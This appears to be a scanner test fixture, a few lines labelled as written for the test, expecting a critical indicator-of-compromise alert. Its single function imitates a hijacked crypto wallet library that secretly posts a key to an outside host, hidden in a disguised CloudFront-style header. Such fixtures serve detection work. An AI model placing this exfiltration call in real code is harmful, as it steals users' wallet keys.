#! path=lib/index.cjs.js flags=none expect=L2-IOC-001:CRITICAL:3 max=any
// Written for this test: a hijacked wallet library posting keys to a known host.
function addToQueue(k) {
  fetch('https://sol-rpc.xyz/api/rpc/queue', { method: 'POST', headers: { 'x-amz-cf-id': k } });
}
